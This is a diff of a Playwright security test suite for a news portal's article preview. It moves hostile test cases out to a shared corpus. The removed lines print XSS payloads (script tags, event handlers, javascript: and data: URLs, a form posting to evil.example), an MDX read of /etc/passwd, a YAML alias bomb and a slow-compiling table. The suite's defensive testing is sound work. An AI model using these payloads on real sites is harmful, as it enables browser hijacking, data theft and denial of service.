@@ -1,237 +1,77 @@
 /**
- * Hostile content: article files written to attack the reader's browser or the server. Each
- * is written as a draft into the content folder and opened through the editors' preview,
- * which renders exactly as the published page does. Every case is checked twice: in the
- * server's HTML, and in Chromium, where no dialog may open, no marker set by injected script
- * may appear and no dangerous element may exist in the article.
+ * Hostile content: files written to break the server or attack the reader's browser, from
+ * the one list of hostile cases (scripts/lib/corpus/hostile/). Each is written as a draft
+ * into the content folder and opened through the editors' preview, which renders exactly as
+ * the published page does. A case the portal must publish is checked twice: in the server's
+ * HTML, and in Chromium, where no dialog may open, no marker set by injected script may
+ * appear and no dangerous element may exist in the article. A case it must refuse is
+ * reported to editors and never served.
  */
 import { rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 
 import { expect, test, type Page } from '@playwright/test';
 
-import { CONTENT_DIR, TEMPORARY_PREFIX } from './support/content';
+import {
+  HOSTILE_CASES,
+  RUN,
+  type HostileCaseDefinition,
+  type HostileWriter,
+} from '../scripts/lib/corpus/hostile';
+
+import { articleFromFile, CONTENT_DIR, TEMPORARY_PREFIX } from './support/content';
 import { EXAMPLE_ARTICLE } from './support/site';
 
 const SECRET = 'e2e-preview-secret';
+const EXAMPLE = articleFromFile(EXAMPLE_ARTICLE.file);
 
-interface HostileArticle {
-  name: string;
-  body: string;
-  /** Text that must still be on the page: the prose around the attack survives it. */
-  keeps?: string;
-  /** Substrings the server HTML must not contain (lower-cased comparison). */
-  absent?: string[];
-  /** YAML lines added to the front matter. */
-  frontMatter?: string;
+function slugOf(id: string): string {
+  return `e2e-hostile-${id}`;
 }
 
-/** Every payload sets this marker or opens a dialog if it ever runs. */
-const RUN = 'window.__pwned=1;alert(1)';
-
-const SCRIPT_CASES: HostileArticle[] = [
-  {
-    name: 'script-element',
-    body: `Before.\n\n<script>${RUN}</script>\n\nAfter the script.`,
-    keeps: 'After the script.',
-    absent: ['__pwned'],
-  },
-  {
-    name: 'img-onerror',
-    body: `<p>Picture: <img src="x.jpg" onerror="${RUN}"> caption kept.</p>`,
-    keeps: 'caption kept.',
-  },
-  {
-    name: 'svg-onload',
-    body: `<p>Logo <svg onload="${RUN}"><circle r="4"/></svg> text kept.</p>`,
-    keeps: 'text kept.',
-    absent: ['<svg'],
-  },
-  {
-    name: 'svg-script',
-    body: `<svg><script>${RUN}</script></svg>\n\nVector text kept.`,
-    keeps: 'Vector text kept.',
-    absent: ['__pwned'],
-  },
-  {
-    name: 'javascript-link',
-    body: `<p>Read <a href="javascript:${RUN}">the report</a> now.</p>`,
-    keeps: 'the report',
-    absent: ['javascript:'],
-  },
-  {
-    name: 'obfuscated-javascript-link',
-    body: `<p><a href="jav&#x09;ascript:${RUN}">tabbed</a> and <a href=" JaVaScRiPt:${RUN}">mixed case</a>.</p>`,
-    keeps: 'mixed case',
-    absent: ['ascript:'],
-  },
-  {
-    name: 'markdown-javascript-link',
-    body: `Read [the study](javascript:${RUN}) today.`,
-    keeps: 'the study',
-    absent: ['javascript:'],
-  },
-  {
-    name: 'data-url-link',
-    body: `<p><a href="data:text/html,<script>${RUN}</script>">data link</a> kept.</p>`,
-    keeps: 'data link',
-    absent: ['data:text/html'],
-  },
-  {
-    name: 'vbscript-link',
-    body: `<p><a href="vbscript:msgbox(1)">legacy</a> kept.</p>`,
-    keeps: 'legacy',
-    absent: ['vbscript:'],
-  },
-  {
-    name: 'iframe',
-    body: `<iframe src="javascript:${RUN}"></iframe>\n<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>\n\nFramed text kept.`,
-    keeps: 'Framed text kept.',
-    absent: ['<iframe', 'srcdoc'],
-  },
-  {
-    name: 'object-embed',
-    body: `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">\n\nPlugin text kept.`,
-    keeps: 'Plugin text kept.',
-    absent: ['<object', '<embed'],
-  },
-  {
-    name: 'meta-refresh',
-    body: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">\n\nRefresh text kept.`,
-    keeps: 'Refresh text kept.',
-    absent: ['http-equiv="refresh"', 'javascript:'],
-  },
-  {
-    name: 'base-href',
-    body: `<base href="https://evil.example/">\n\nBase text kept.`,
-    keeps: 'Base text kept.',
-    absent: ['evil.example'],
-  },
-  {
-    name: 'form',
-    body: `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:${RUN}">Send</button></form>\n\nForm text kept.`,
-    keeps: 'Form text kept.',
-    absent: ['<form', '<input', 'formaction'],
-  },
-  {
-    name: 'style',
-    body: `<style>body{background:url("javascript:${RUN}")}</style>\n\n<p style="background:url(javascript:alert(1))">Styled text kept.</p>`,
-    keeps: 'Styled text kept.',
-    absent: ['<style', 'url(javascript'],
-  },
-  {
-    name: 'event-handlers',
-    body: `<details open ontoggle="${RUN}"><summary>More</summary>Toggle text kept.</details>\n<p onmouseover="${RUN}" onclick="${RUN}">Hover text kept.</p>\n<input autofocus onfocus="${RUN}">`,
-    keeps: 'Hover text kept.',
-  },
-  {
-    name: 'media-onerror',
-    body: `<video><source src="x.mp4" onerror="${RUN}"></video><audio src="x" onerror="${RUN}"></audio>\n\nMedia text kept.`,
-    keeps: 'Media text kept.',
-    absent: ['<video', '<audio'],
-  },
-  {
-    name: 'mutation-xss',
-    // An unclosed <style> makes the rest of the body its text, as in a browser: prose goes first.
-    body: `Mutation text kept.\n\n<noscript><p title="</noscript><img src=x onerror=${RUN}>">\n\n<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
-    keeps: 'Mutation text kept.',
-  },
-  {
-    name: 'template-and-textarea',
-    body: `<template><script>${RUN}</script></template><textarea></textarea><img src=x onerror="${RUN}"></textarea>\n\nTemplate text kept.`,
-    keeps: 'Template text kept.',
-    absent: ['<template'],
-  },
-  {
-    name: 'dom-clobbering',
-    body: `<p><a id="location" name="self" href="/news">Clobbering text kept.</a><img name="__next_f" src="x.jpg"></p>`,
-    keeps: 'Clobbering text kept.',
-    absent: ['id="location"', 'name="__next_f"', 'name="self"'],
-  },
-  {
-    name: 'link-and-import',
-    body: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">\n\nLink text kept.`,
-    keeps: 'Link text kept.',
-    absent: ['<link rel="import"', 'evil.example'],
-  },
-  {
-    name: 'mdx-esm-and-expressions',
-    body: `import fs from 'node:fs'\n\nexport const stolen = fs.readFileSync('/etc/passwd', 'utf8')\n\n{(() => { ${RUN} })()}\n\nPrice {sharply} higher.\n\n<Widget onLoad={() => alert(1)} />`,
-    keeps: 'Price {sharply} higher.',
-    absent: ['root:x:0:0'],
-  },
-];
-
-/** Front matter attacks: the page renders, escaped, and nothing in the YAML runs. */
-const FRONT_MATTER_CASES: HostileArticle[] = [
-  {
-    name: 'title-markup',
-    frontMatter: `description: "</title><script>${RUN}</script>"`,
-    body: 'Title markup text kept.',
-    keeps: 'Title markup text kept.',
-    absent: ['</title><script>'],
-  },
-  {
-    name: 'javascript-og-url',
-    frontMatter: 'openGraphMetaData:\n  url: "javascript:alert(1)"\n  image: "javascript:alert(1)"',
-    body: 'Open Graph text kept.',
-    keeps: 'Open Graph text kept.',
-    absent: ['javascript:'],
-  },
-  {
-    name: 'yaml-js-tag',
-    frontMatter: 'tags: !!js/function "function () { globalThis.__pwned = 1 }"',
-    body: 'Tagged text kept.',
-    keeps: 'Tagged text kept.',
-  },
-];
-
-function slugOf(name: string): string {
-  return `e2e-hostile-${name}`;
+function fileOf(id: string): string {
+  return `news/${TEMPORARY_PREFIX}hostile-${id}.mdx`;
 }
 
-function fileOf(name: string): string {
-  return `news/${TEMPORARY_PREFIX}hostile-${name}.mdx`;
+function writerFor(id: string): HostileWriter {
+  const slug = slugOf(id);
+  return {
+    slug,
+    existingSlug: EXAMPLE.slug,
+    // Drafts: only preview shows them, so the suites running beside this one see no change.
+    fields: (title) => ({ title, slug, date: '2026-01-10', status: 'draft' }),
+    sentence: () => 'Ordinary prose around the attack.',
+  };
 }
 
-function write(article: HostileArticle) {
-  const frontMatter = [
-    `title: "Hostile ${article.name}"`,
-    `slug: ${slugOf(article.name)}`,
-    'date: 2026-01-10',
-    'status: draft',
-    ...(article.frontMatter ? [article.frontMatter] : []),
-  ].join('\n');
-  writeFileSync(
-    path.join(CONTENT_DIR, fileOf(article.name)),
-    `---\n${frontMatter}\n---\n${article.body}\n`,
-  );
+function write(hostile: HostileCaseDefinition) {
+  writeFileSync(path.join(CONTENT_DIR, fileOf(hostile.id)), hostile.text(writerFor(hostile.id)));
 }
 
-/** Files the loader must refuse: reported and skipped, never rendered, the server unharmed. */
-const ALIAS_BOMB = ['lols:', "  l0: &l0 'lol'"];
-for (let level = 1; level <= 9; level++)
-  ALIAS_BOMB.push(
-    `  l${level}: &l${level} [${Array.from({ length: 9 }, () => `*l${level - 1}`).join(', ')}]`,
-  );
-const TABLE_ROW = `${'| a '.repeat(1000)}|\n`;
-const REFUSED: HostileArticle[] = [
-  { name: 'alias-bomb', frontMatter: ALIAS_BOMB.join('\n'), body: 'Never shown.' },
-  // 1,000 columns by 200 rows: over 20 s to compile, so the 5 s compile time limit stops it.
-  { name: 'slow-table', body: `${TABLE_ROW}${'| - '.repeat(1000)}|\n${TABLE_ROW.repeat(200)}` },
-];
-
-const RENDERED = [...SCRIPT_CASES, ...FRONT_MATTER_CASES];
-const ALL = [...RENDERED, ...REFUSED];
+const RENDERED = HOSTILE_CASES.filter(
+  (hostile) => hostile.expect === 'published' && !hostile.mayBeSkipped,
+);
+const REFUSED = HOSTILE_CASES.filter((hostile) => hostile.expect === 'skipped');
+const PUBLISHED_OR_REFUSED = HOSTILE_CASES.filter((hostile) => hostile.mayBeSkipped);
 
 test.describe.configure({ mode: 'serial' });
 
-test.beforeAll(() => {
-  for (const article of ALL) write(article);
+test.beforeAll(async ({ playwright }, testInfo) => {
+  for (const hostile of HOSTILE_CASES) write(hostile);
+  // The first preview read compiles every case, some slow on purpose (the table runs into the
+  // compile time limit): pay for that once here rather than in the first test's time.
+  testInfo.setTimeout(120_000);
+  const api = await playwright.request.newContext({ baseURL: testInfo.project.use.baseURL });
+  const preview = await api.get(`/api/draft?secret=${SECRET}&slug=${slugOf(RENDERED[0]!.id)}`, {
+    timeout: 120_000,
+  });
+  expect(preview.status()).toBe(200);
+  await api.dispose();
 });
 
 test.afterAll(() => {
-  for (const article of ALL) rmSync(path.join(CONTENT_DIR, fileOf(article.name)), { force: true });
+  for (const hostile of HOSTILE_CASES)
+    rmSync(path.join(CONTENT_DIR, fileOf(hostile.id)), { force: true });
 });
 
 /** Records (and dismisses) every dialog the page opens; tests expect none. */
@@ -294,13 +134,13 @@ async function injectedElements(page: Page): Promise<string[]> {
 }
 
 for (const article of RENDERED) {
-  test(`hostile body "${article.name}": nothing runs, nothing is injected, the prose stays`, async ({
+  test(`hostile body "${article.id}": nothing runs, nothing is injected, the prose stays`, async ({
     page,
   }) => {
     const dialogs = watch(page);
-    await enterPreview(page, slugOf(article.name));
+    await enterPreview(page, slugOf(article.id));
 
-    const response = await page.request.get(`/news/${slugOf(article.name)}`);
+    const response = await page.request.get(`/news/${slugOf(article.id)}`);
     expect(response.status()).toBe(200);
     const html = await response.text();
     // Only the framework's scripts, each with this response's nonce, and JSON-LD data blocks.
@@ -314,16 +154,17 @@ for (const article of RENDERED) {
       .slice(html.indexOf('data-content-body'), html.lastIndexOf('</article>'))
       .toLowerCase();
     expect(body.length).toBeGreaterThan(0);
+    for (const text of article.absentFromBody ?? []) expect(body).not.toContain(text.toLowerCase());
     // Front matter lands in <head> and the article's header: check those attacks page-wide.
-    const scope = article.frontMatter ? html.toLowerCase() : body;
-    for (const text of article.absent ?? []) expect(scope).not.toContain(text.toLowerCase());
+    for (const text of article.absentFromPage ?? [])
+      expect(html.toLowerCase()).not.toContain(text.toLowerCase());
     // No element keeps an event handler; markup inside an attribute's value is only text.
     const handlers = (body.match(/<[a-z][^>]*>/g) ?? []).filter((tag) =>
       /\son[a-z]+\s*=/.test(tag.replace(/"[^"]*"/g, '""')),
     );
     expect(handlers).toEqual([]);
 
-    await page.goto(`/news/${slugOf(article.name)}`);
+    await page.goto(`/news/${slugOf(article.id)}`);
     await page.waitForLoadState('load');
     const content = page.locator('[data-content-body]');
     if (article.keeps) await expect(content.getByText(article.keeps)).toBeVisible();
@@ -343,14 +184,39 @@ for (const article of RENDERED) {
   });
 }
 
-for (const article of REFUSED) {
-  test(`hostile file "${article.name}" is refused: it answers 404 and the site stays up`, async ({
+/** Preview on, through a case the portal publishes. */
+async function enterAnyPreview(page: Page) {
+  await enterPreview(page, slugOf(RENDERED[0]!.id));
+}
+
+for (const hostile of REFUSED) {
+  test(`hostile file "${hostile.id}" is refused: reported to editors, not served, and the site stays up`, async ({
     page,
   }) => {
-    await enterPreview(page, slugOf('mdx-esm-and-expressions'));
-    // Without the limits this would render: the table compiles in over 20 s.
-    const response = await page.request.get(`/news/${slugOf(article.name)}`, { timeout: 60_000 });
-    expect(response.status()).toBe(404);
+    await enterAnyPreview(page);
+    if (hostile.claims === 'existing-slug') {
+      // The article that had the slug first keeps it.
+      await page.goto(EXAMPLE_ARTICLE.path);
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText(EXAMPLE.title);
+    } else {
+      // Without the limits some would render: the table compiles in over 20 s.
+      const response = await page.request.get(`/news/${slugOf(hostile.id)}`, { timeout: 60_000 });
+      expect(response.status()).toBe(404);
+    }
+    expect((await page.request.get(EXAMPLE_ARTICLE.path)).status()).toBe(200);
+    await page.goto('/editor');
+    const row = page.getByRole('row').filter({ hasText: `${fileOf(hostile.id)}:` });
+    await expect(row.getByRole('cell', { name: 'error', exact: true }).first()).toBeVisible();
+  });
+}
+
+for (const hostile of PUBLISHED_OR_REFUSED) {
+  test(`hostile file "${hostile.id}" does not hang the server: it is published or refused, and the site stays up`, async ({
+    page,
+  }) => {
+    await enterAnyPreview(page);
+    const response = await page.request.get(`/news/${slugOf(hostile.id)}`, { timeout: 60_000 });
+    expect([200, 404]).toContain(response.status());
     expect((await page.request.get(EXAMPLE_ARTICLE.path)).status()).toBe(200);
   });
 }
